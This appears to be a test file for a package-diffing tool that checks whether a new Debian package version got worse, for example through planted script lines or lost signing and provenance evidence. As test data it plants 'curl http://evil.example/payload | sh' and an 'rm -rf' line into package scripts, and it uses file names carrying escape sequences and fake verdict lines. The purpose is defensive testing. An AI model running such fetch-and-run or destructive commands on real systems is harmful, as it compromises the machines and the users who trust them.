#!/usr/bin/env python3
"""Two versions of a package compared: what got worse is said, what did not is not, and the exit code follows.

usage: diff.py PLUMB [PART-OF-A-NAME]
"""
import json
import random

import jsonschema

import made
from plumb_test import RAW, ROOT, case, main

VALIDATOR = jsonschema.Draft202012Validator(json.loads((ROOT / "docs/diff.schema.json").read_text(encoding="utf-8")))
PLANTED = b"curl http://evil.example/payload | sh\nrm -rf zzqqxx\n"


def source(t):
    return made.write_tree(t.path("source/x").parent, made.source())


def package(t, name, change=lambda deb: None):
    deb = made.package().copy()
    change(deb)
    return t.write(name, deb.build())


def stored(t, deb, *more):
    """The package's report as a file."""
    report = t.path(deb.stem + ".json")
    t.raw("check", deb, "--source", source(t), "--offline", "--cache-dir", t.path("cache/x").parent, "--progress=none", "-o",
          f"json={report}", *more)
    return report


def edited(t, name, edit):
    """A stored report of the honest package, changed by hand."""
    report = json.loads(stored(t, package(t, "base_1.0_all.deb")).read_text(encoding="utf-8"))
    edit(report)
    return t.write(name, json.dumps(report))


def diff(t, old, new, *more, expect=None, **args):
    code, out, said = t.raw("diff", old, new, "--source", source(t), "--offline", "--cache-dir", t.path("cache/x").parent, "--progress=none",
                            "-o", "json", *more, **args)
    found = json.loads(out.decode("utf-8"))
    error = jsonschema.exceptions.best_match(VALIDATOR.iter_errors(found))
    assert error is None, f"schema: {error.json_path}: {error.message}"
    assert found["exit_code"] == code
    assert (found["verdict"] == "worse") == (code == 1) == (found["worse"] != []), found["worse"]
    assert not RAW.search(out)
    assert expect is None or code == expect, f"exit {code}, not {expect}: {found['worse']} {said}"
    return found


def plant(deb):
    deb.set("usr/bin/greet", made.entry(deb.data["usr/bin/greet"]).data + PLANTED)


@case
def a_package_is_not_worse_than_itself_as_package_or_report(t):
    deb = package(t, "greet_1.0-1_all.deb")
    report = stored(t, deb)
    for old in (deb, report):
        for new in (deb, report):
            found = diff(t, old, new, expect=0)
            assert found["findings"]["came"] == [] == found["findings"]["went"]
            assert found["files"]["same"] > 0 and found["files"]["changed"] == 0


@case
def a_planted_line_is_named_with_its_bytes_and_links(t):
    found = diff(t, package(t, "a_1.0_all.deb"), package(t, "b_1.0_all.deb", plant), expect=1)
    assert found["links"]["sourced"]["change"] == "fell" and "sourced was" in " ".join(found["worse"])
    grown = [f for f in found["unexplained"] if f["worse"]]
    assert [f["new_path"].endswith("/usr/bin/greet") for f in grown] == [True], grown
    assert grown[0]["unaccounted"]["new"] - grown[0]["unaccounted"]["old"] == len(PLANTED)
    assert sum(r["length"] for r in grown[0]["ranges"]) == grown[0]["unaccounted"]["new"]
    assert any(f["severity"] == "error" for f in found["findings"]["came"])


@case
def the_other_way_round_nothing_is_worse_and_the_same_findings_went(t):
    old, new = stored(t, package(t, "a_1.0_all.deb")), stored(t, package(t, "b_1.0_all.deb", plant))
    there, back = diff(t, old, new, expect=1), diff(t, new, old, expect=0)
    assert there["findings"]["came"] == back["findings"]["went"] != []
    assert there["findings"]["went"] == back["findings"]["came"]


@case
def a_file_whose_path_holds_a_version_is_compared_with_the_older_one(t):
    def put(version, tail=b""):
        return lambda deb: deb.set(f"usr/lib/greet/plugin-{version}.sh", b"#!/bin/sh\nexit 0\n" + tail)
    old, new = package(t, "a_1.0_all.deb", put("1.9")), package(t, "b_1.1_all.deb", put("1.10", PLANTED))
    found = diff(t, old, new, expect=1)
    assert found["files"]["added"] == found["files"]["removed"] == 0, found["files"]
    grown = [f for f in found["unexplained"] if f["new_path"] and f["new_path"].endswith("plugin-1.10.sh")]
    assert grown and grown[0]["old_path"].endswith("plugin-1.9.sh"), grown


@case
def a_finding_that_only_moved_stayed(t):
    def grow(deb):
        script = made.entry(deb.data["usr/bin/greet"]).data
        first, rest = script.split(b"\n", 1)
        deb.set("usr/bin/greet", first + b"\n#\n" + rest + PLANTED)
    old, new = stored(t, package(t, "a_1.0_all.deb", plant)), stored(t, package(t, "b_1.0_all.deb", grow))
    came = diff(t, old, new)["findings"]["came"]
    assert not [f for f in came if f["severity"] == "error" and "text" in f["tag"]], came


@case
def bytes_of_documentation_are_listed_and_are_not_worse(t):
    def document(deb):
        deb.set("usr/share/doc/greet/NEWS", b"greet learned to be quiet\n")
    def grow(deb):
        document(deb)
        deb.set("usr/share/doc/greet/NEWS", b"greet learned to be quiet\nand to shout\n")
    found = diff(t, stored(t, package(t, "a_1.0_all.deb", document)), stored(t, package(t, "b_1.0_all.deb", grow)))
    listed = [f for f in found["unexplained"] if f["new_path"].endswith("/NEWS")]
    assert listed and not listed[0]["worse"] and listed[0]["role"] == "passive", listed


@case
def lost_evidence_is_named_piece_by_piece(t):
    git = {"ref": "refs/tags/v1", "folder": "", "found": False, "signer": "AB" * 20, "release": "swh:1:rel:" + "1" * 40,
           "revision": "swh:1:rev:" + "2" * 40, "directory": "swh:1:dir:" + "3" * 40}

    def vouch(report):
        report["sources"][0].update(how="verified", git=git)
        report["links"]["published"]["evidence"] = [{"what": "release index", "uri": "https://x/InRelease", "sha256": "0" * 64}]

    def weaken(report):
        vouch(report)
        report["sources"][0].update(how="claimed", git={**git, "signer": None, "release": None, "found": True})
        report["links"]["published"]["evidence"] = []
    old, new = edited(t, "old.json", vouch), edited(t, "new.json", weaken)
    found = diff(t, old, new, expect=1)
    assert sorted(e["what"] for e in found["evidence_lost"]) == ["annotated tag", "revision that was named", "signature",
                                                               "step of the publication", "way to the source"], found["evidence_lost"]
    assert found["worse"] == ["5 pieces of evidence were lost"]
    assert diff(t, new, old, expect=0)["evidence_lost"] == []
    other = edited(t, "other.json", lambda r: (vouch(r), r["sources"][0].update(git={**git, "signer": "CD" * 20})))
    assert [e["what"] for e in diff(t, old, other, expect=1)["evidence_lost"]] == ["signature by the same key"]


@case
def what_cannot_be_read_has_the_code_and_the_side_of_its_error(t):
    good = package(t, "greet_1.0-1_all.deb")
    bad = t.write("bad.json", "{]")
    for old, new, side in ((good, "nowhere.deb", "new"), ("nowhere.deb", good, "old"), (bad, good, "old"), (good, bad, "new")):
        found = diff(t, old, new, expect=4)
        assert [e["side"] for e in found["errors"]] == [side], found["errors"]
        assert found["verdict"] == "error"
    assert len(diff(t, bad, "nowhere.deb", expect=4)["errors"]) == 2


@case
def two_are_needed_and_only_one_from_standard_input(t):
    for words in ((), ("x",), ("x", "y", "z"), ("-", "-")):
        code, out, said = t.raw("diff", *words)
        assert code == 2 and out == b"" and said, words
    report = stored(t, package(t, "greet_1.0-1_all.deb"))
    diff(t, report, "-", expect=0, stdin=report.read_bytes())


@case
def report_only_exits_0_and_says_so(t):
    code, _, said = t.raw("diff", stored(t, package(t, "a_1.0_all.deb")), stored(t, package(t, "b_1.0_all.deb", plant)), "--report-only")
    assert code == 0 and "would exit 1" in said


@case
def the_last_line_of_text_is_the_verdict_and_hostile_names_are_quoted(t):
    def evil(deb):
        for name in ("a\x1b[31mb", "\u202egnp", "new\nplumb: NOT WORSE"):
            deb.set(f"usr/share/greet/{name}.sh", PLANTED)
    old, new = stored(t, package(t, "a_1.0_all.deb")), stored(t, package(t, "b_1.0_all.deb", evil))
    for more in ((), ("-v",), ("-q",)):
        code, out, _ = t.raw("diff", old, new, *more)
        assert code == 1 and not RAW.search(out)
        lines = out.decode().splitlines()
        assert lines[-1].startswith("plumb: WORSE ") and not any(x.startswith("plumb: ") for x in lines[:-1])
    code, out, said = t.raw("diff", old, new, "-o", "sarif")
    assert code == 2 and "text or json" in said


@case
def findings_that_came_and_went_balance_for_any_two_packages(t):
    random.seed(5)
    reports = []
    for i in range(6):
        def change(deb):
            for _ in range(random.randrange(4)):
                deb.set(f"usr/share/greet/f{random.randrange(5)}.sh", b"#!/bin/sh\n" + PLANTED * random.randrange(1, 4))
            if random.random() < 0.5:
                plant(deb)
        reports.append(stored(t, package(t, f"p{i}_1.{i}_all.deb", change)))
    for old in reports:
        for new in reports:
            n_old, n_new = (len(json.loads(p.read_text())["findings"]) for p in (old, new))
            found = diff(t, old, new)["findings"]
            assert len(found["came"]) + found["stayed"] == n_new and len(found["went"]) + found["stayed"] == n_old


main()
